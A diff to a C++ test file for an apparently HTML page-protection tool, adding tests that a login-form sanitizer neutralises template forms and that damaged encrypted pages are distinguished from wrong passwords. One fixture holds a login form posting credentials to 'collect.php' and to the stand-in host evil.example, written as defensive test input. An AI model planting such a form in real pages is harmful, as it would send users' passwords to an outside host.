@@ -4,6 +4,7 @@
 #include "common/AppFolders.h"
 #include "engine/CredentialTable.h"
 #include "engine/HeadFilter.h"
+#include "engine/LoginFormSanitizer.h"
 #include "engine/PageUnlocker.h"
 #include "engine/ResultList.h"
 #include "model/AppGlobalData.h"
@@ -163,8 +164,9 @@ TEST_F(Engine, pageLayoutFollowsTheBlockOrder)
     const qsizetype vars = out.indexOf("<SCRIPT type=\"text/javascript\">\r\nvar LoginExpireType=1;\r\n");
     const qsizetype array = out.indexOf("var PWDMKK=");
     const qsizetype login = out.indexOf(script);
-    const qsizetype close =
-        out.indexOf("</SCRIPT>\r\n</HEAD>\r\n<body onload=\"javascript:vxpcheck();\" class=\"login\">\r\n");
+    const qsizetype close = out.indexOf(QByteArray(
+        "</SCRIPT>\r\n</HEAD>\r\n<body onload=\"javascript:vxpcheck();\" class=\"login\">" +
+        CLoginFormSanitizer::NoScriptLine() + "\r\n<form id=\"vxpform\" action=\"javascript:void(0)\">"));
     EXPECT_EQ(head, 0);
     EXPECT_GT(vars, head);
     EXPECT_GT(array, vars);
@@ -293,13 +295,96 @@ TEST_F(Engine, headAndBodyOnOneLineAndTemplateWithoutBody)
     ASSERT_EQ(Protect(page), QStringLiteral("Protected"));
     const QByteArray out = ReadFile(page);
     EXPECT_TRUE(out.startsWith("<html><head><title>T</title><SCRIPT"));
-    EXPECT_TRUE(out.contains("</HEAD>\r\n<body onload=\"javascript:vxpcheck();\" id=b>Hi</body></html>\r\n"));
+    EXPECT_TRUE(out.contains(QByteArray("</HEAD>\r\n<body onload=\"javascript:vxpcheck();\" id=b>" +
+                                        CLoginFormSanitizer::NoScriptLine() + "Hi</body></html>\r\n")));
 
     ASSERT_TRUE(WriteFile(templatePath, "<html><head></head></html>\n"));
     const QString noBody = Page("b.htm", "x\n");
     ASSERT_EQ(Protect(noBody), QStringLiteral("Protected"));
     EXPECT_TRUE(ReadFile(noBody).contains("</HEAD>\r\n\r\n<!-- Protected by Wendlock 2.4 original="));
     EXPECT_FALSE(ReadFile(noBody).contains("<body"));
+}
+
+// An older user template whose form posts named fields to a server: the
+// written login page submits nothing anywhere, while comments, scripts and
+// raw text that merely look like forms stay byte for byte.
+TEST_F(Engine, loginFormOfAnyTemplateSubmitsNothing)
+{
+    ASSERT_TRUE(WriteFile(
+        templatePath, "<html><head><title>T</title></head>\n"
+                      "<BODY\nclass=\"x\"><!-- <form action=\"/c\" method=post> -->\n"
+                      "<script>var s = '<input name=\"keep\">';</script>\n"
+                      "<FORM Action=\"collect.php\" METHOD=\"POST\" target=_top id=vxpform><input "
+                      "type=\"text\" NAME=\"vxpuser\"\n"
+                      " id=\"vxpuser\" value=\"a b\"><input id=\"vxppass\" name='vxppass' type=password/>\n"
+                      "<button formaction=\"/x\" formmethod=post name=go type=submit>Go</button>"
+                      "<input type=image src=i.png formaction=//evil.example/ name=img>\n"
+                      "<textarea name=t><input name=\"inside\"></textarea><select name=s></select></form>\n"
+                      "<form method=get><input name=q></form></body></html>\n"));
+    const QString page = Page("t.htm", "<html><head></head><body>Secret</body></html>\n");
+    ASSERT_EQ(Protect(page), QStringLiteral("Protected"));
+    const QByteArray out = ReadFile(page);
+    const QByteArray body = out.mid(out.indexOf("<body onload"));
+    EXPECT_TRUE(body.startsWith(QByteArray(
+        "<body onload=\"javascript:vxpcheck();\"\r\nclass=\"x\">" + CLoginFormSanitizer::NoScriptLine() +
+        "<!-- <form action=\"/c\" method=post> -->\r\n"
+        "<script>var s = '<input name=\"keep\">';</script>\r\n"
+        "<FORM id=vxpform action=\"javascript:void(0)\"><input type=\"text\"\r\n"
+        " id=\"vxpuser\" value=\"a b\"><input id=\"vxppass\" type=password/>\r\n"
+        "<button type=submit>Go</button><input type=image src=i.png>\r\n"
+        "<textarea><input name=\"inside\"></textarea><select></select></form>\r\n"
+        "<form action=\"javascript:void(0)\"><input></form></body></html>\r\n")))
+        << body.constData();
+    // The template's own text is untouched where no form is involved.
+    EXPECT_EQ(Unlocked(page), QByteArray("<html><head></head><body>Secret</body></html>\n"));
+}
+
+// A strong page that the right password opens as far as its key, but whose
+// content is damaged, is told apart from a wrong password: by the check
+// value of a single password's key, by the entry of a user.
+TEST_F(Engine, damagedStrongPageIsNotAWrongPassword)
+{
+    data.m_nCipher = CAppGlobalData::kCipherStrong;
+    data.m_nKdfIterations = CAppGlobalData::kMinKdfIterations;
+    data.EnsureSalt();
+    const auto damage = [](const QString& path) {
+        QByteArray bytes = ReadFile(path);
+        const qsizetype at = bytes.indexOf("var vxsa=[\"") + 12;
+        bytes[at] = bytes[at] == 'A' ? 'B' : 'A';
+        return WriteFile(path, bytes);
+    };
+    CPageUnlocker::Status status{};
+    const QString single = Page("s.htm", "<p>single</p>\n");
+    ASSERT_EQ(Protect(single), QStringLiteral("Protected"));
+    EXPECT_TRUE(ReadFile(single).contains("];var vxsc=\""));
+    ASSERT_TRUE(damage(single));
+    Unlocked(single, QString(), QStringLiteral("pw"), &status);
+    EXPECT_EQ(status, CPageUnlocker::Status::Damaged);
+    Unlocked(single, QString(), QStringLiteral("pW"), &status);
+    EXPECT_EQ(status, CPageUnlocker::Status::WrongCredentials);
+    // A page written before the check value: the right password can't be
+    // confirmed, so it is reported as not opening the page.
+    QByteArray old = ReadFile(single);
+    const qsizetype check = old.indexOf("var vxsc=");
+    old.remove(check, old.indexOf(';', check) + 1 - check);
+    ASSERT_TRUE(WriteFile(single, old));
+    Unlocked(single, QString(), QStringLiteral("pw"), &status);
+    EXPECT_EQ(status, CPageUnlocker::Status::WrongCredentials);
+
+    data.m_nPasswordMode = CAppGlobalData::kMultipleUsers;
+    CUserListNode user;
+    user.m_strUserName = QStringLiteral("ann");
+    user.m_strPassword = QStringLiteral("pw");
+    data.m_listUsers = {user};
+    const QString multi = Page("m.htm", "<p>multi</p>\n");
+    ASSERT_EQ(Protect(multi), QStringLiteral("Protected"));
+    EXPECT_FALSE(ReadFile(multi).contains("var vxsc="));
+    EXPECT_EQ(Unlocked(multi, QStringLiteral("ann")), QByteArray("<p>multi</p>\n"));
+    ASSERT_TRUE(damage(multi));
+    Unlocked(multi, QStringLiteral("ann"), QStringLiteral("pw"), &status);
+    EXPECT_EQ(status, CPageUnlocker::Status::Damaged);
+    Unlocked(multi, QStringLiteral("ann"), QStringLiteral("px"), &status);
+    EXPECT_EQ(status, CPageUnlocker::Status::WrongCredentials);
 }
 
 TEST_F(Engine, afterLoginOptionsGoBeforeTheFirstHeadEnd)
